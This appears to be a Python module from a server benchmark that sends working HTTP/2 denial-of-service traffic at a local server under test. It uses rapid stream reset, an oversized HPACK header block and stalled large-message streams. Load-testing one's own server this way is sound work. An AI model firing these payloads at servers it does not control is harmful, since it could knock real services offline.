"""Hostile clients beside a good one: each in a process of its own on the generator's core.

An attack is sent a fixed number of times a second, so that the attackers leave the good client's
generator, which shares their core, in peace: what is measured is the server.

`python -m bench.front.attacks PORT NAME SECONDS` attacks, and prints how often it did.
"""

import contextlib
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Iterator

from hpack import Encoder

from bench.decide.wire import DECIDE_METHOD
from bench.load import GENERATOR_CORE, pin
from bench.measurement import REPOSITORY

ROUNDS_PER_S = 20.0
"""Attacks a second, each on a connection of its own."""

_DATA, _HEADERS, _RST_STREAM, _SETTINGS = 0, 1, 3, 4
_END_HEADERS = 4
_GREETING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, _SETTINGS, 0, 0, 0, 0, 0])
_STREAMS = 100


class Attack:
    """An attack that goes on."""

    def __init__(self, process: "subprocess.Popen[str]") -> None:
        self._process = process
        self._rounds_count = 0

    def finish(self) -> None:
        """Wait until it ends."""
        words, _ = self._process.communicate()
        self._rounds_count = int(words or 0)

    def count_rounds(self) -> int:
        """Return how often it was sent, once it has ended."""
        return self._rounds_count


@contextlib.contextmanager
def run_attacks(port: int, name: str, seconds: float) -> Iterator[Attack]:
    """Attack while the block runs, for so many seconds at most."""
    process = subprocess.Popen(
        pin([sys.executable, "-m", "bench.front.attacks", str(port), name, str(seconds)],
            GENERATOR_CORE),
        stdout=subprocess.PIPE, text=True, cwd=REPOSITORY,
    )  # fmt: skip
    attack = Attack(process)
    time.sleep(0.5)
    try:
        yield attack
    finally:
        attack.finish()


def make_attack(name: str) -> bytes:
    """Return the bytes of one attack."""
    block = Encoder().encode([
        (":method", "POST"), (":scheme", "http"), (":path", f"/{DECIDE_METHOD}"),
        (":authority", "a"), ("te", "trailers"), ("content-type", "application/grpc"),
    ])  # fmt: skip
    streams = range(1, 2 * _STREAMS, 2)
    if name == "rapid_reset":
        return b"".join(
            _frame(_HEADERS, _END_HEADERS, stream, block)
            + _frame(_RST_STREAM, 0, stream, struct.pack(">I", 8))
            for stream in range(1, 4_000, 2)
        )
    if name == "header_bomb":
        bomb = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4_000
        return _frame(_HEADERS, _END_HEADERS, 1, block + bomb + b"\xbe" * 12_000)
    promise = struct.pack(">BI", 0, 1 << 20)
    half = [
        _frame(_HEADERS, _END_HEADERS, s, block) + _frame(_DATA, 0, s, promise) for s in streams
    ]
    half += [_frame(_DATA, 0, s, bytes(10_000)) for s in streams]
    return b"".join(half)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    head = struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream)
    return head + payload


def _attack(port: int, data: bytes, seconds: float) -> int:
    """Attack again and again; keep the last connections open as far as the server lets them."""
    count = 0
    began_s = time.perf_counter()
    kept: list[socket.socket] = []
    while (now_s := time.perf_counter() - began_s) < seconds:
        attacker = socket.create_connection(("127.0.0.1", port), timeout=5)
        with contextlib.suppress(OSError):
            attacker.sendall(_GREETING + data)
        kept.append(attacker)
        if len(kept) > 5:
            kept.pop(0).close()
        count += 1
        time.sleep(max(count / ROUNDS_PER_S - now_s, 0))
    return count


if __name__ == "__main__":
    print(_attack(int(sys.argv[1]), make_attack(sys.argv[2]), float(sys.argv[3])))
